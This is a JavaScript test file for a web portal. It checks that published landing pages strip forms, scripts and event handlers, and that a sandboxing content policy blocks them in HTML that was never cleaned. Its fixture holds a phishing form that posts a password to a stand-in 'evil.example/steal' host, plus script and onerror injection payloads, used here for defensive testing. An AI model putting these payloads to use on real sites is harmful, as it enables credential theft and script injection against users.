// A published landing page is an account's own HTML. Two layers keep it from phishing on the portal's
// origin, each shown in Chromium: its HTML is cleaned on write (no form, script or handler is left),
// and its sandboxing Content-Security-Policy stops a form from posting and a script from running even
// in HTML that was never cleaned.
import assert from 'node:assert/strict';
import { test } from '@jest/globals';
import { PASSWORD, useHarness } from './harness.mjs';

/** Solo Studio (packages/db/src/seed.ts), owned by owner@solo.example. */
const SOLO = '00000000-0000-4000-8000-00000000b001';
/** apps/api/src/content/landing-page-html.ts: a page marked with it is served as stored. */
const CURRENT_HTML_POLICY = 1;

const h = useHarness();

const HOSTILE =
  '<h1>Spring sale</h1><form action="https://evil.example/steal" method="post"><input name="password" value="secret"><button>Sign in</button></form>' +
  '<script>document.title = "script ran"</script><img src="x" onerror="document.title = \'handler ran\'">';

async function visit(name, slug, steps) {
  const requests = [];
  const messages = [];
  await h.inBrowser(name, async (page) => {
    page.on('request', (request) => requests.push(request.url()));
    page.on('console', (message) => messages.push(message.text()));
    await page.goto(`${h.baseUrl}/api/public/pages/${slug}`);
    await page.getByRole('heading', { name: 'Spring sale' }).waitFor();
    await steps(page);
    assert.equal(await page.title(), 'Spring sale', 'no script or handler ran');
  });
  assert.deepEqual(requests.filter((url) => url.includes('evil.example')), [], 'nothing was sent to the other site');
  return messages;
}

test('a page written with a form, a script and a handler is published without them', async () => {
  const login = await fetch(`${h.baseUrl}/api/auth/login`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ email: 'owner@solo.example', password: PASSWORD }),
  });
  const auth = { Authorization: `Bearer ${JSON.parse(await login.text()).accessToken}`, 'Content-Type': 'application/json' };
  const created = await fetch(`${h.baseUrl}/api/accounts/${SOLO}/landing-pages`, { method: 'POST', headers: auth, body: JSON.stringify({ title: 'Spring sale', slug: 'spring-sale-cleaned', bodyHtml: HOSTILE }) });
  assert.equal(created.status, 201, await created.clone().text());
  const { id } = JSON.parse(await created.text());
  const published = await fetch(`${h.baseUrl}/api/accounts/${SOLO}/landing-pages/${id}/publish`, { method: 'POST', headers: { ...auth, 'If-Match': '"1"' }, body: '{}' });
  assert.equal(published.status, 200, await published.text());

  await visit('public-page-cleaned', 'spring-sale-cleaned', async (page) => {
    assert.equal(await page.locator('form, input, button, script').count(), 0);
    assert.equal(await page.locator('img').getAttribute('onerror'), null);
  });
});

test('HTML that was never cleaned still cannot post a form to another site or run a script', async () => {
  await h.db.query(
    `INSERT INTO landing_page (id, account_id, title, slug, body_html, html_policy, state, published_at, updated_at)
     VALUES (gen_random_uuid(), $1, 'Spring sale', 'spring-sale-sandbox', $2, $3, 'PUBLISHED', now(), now())`,
    [SOLO, HOSTILE, CURRENT_HTML_POLICY],
  );
  const messages = await visit('public-page-sandboxed', 'spring-sale-sandbox', async (page) => {
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForTimeout(500);
    assert.equal(new URL(page.url()).pathname, '/api/public/pages/spring-sale-sandbox', 'still on the page');
  });
  assert.ok(messages.some((line) => /Blocked form submission to 'https:\/\/evil\.example\/steal'/.test(line)), messages.join('\n'));
});
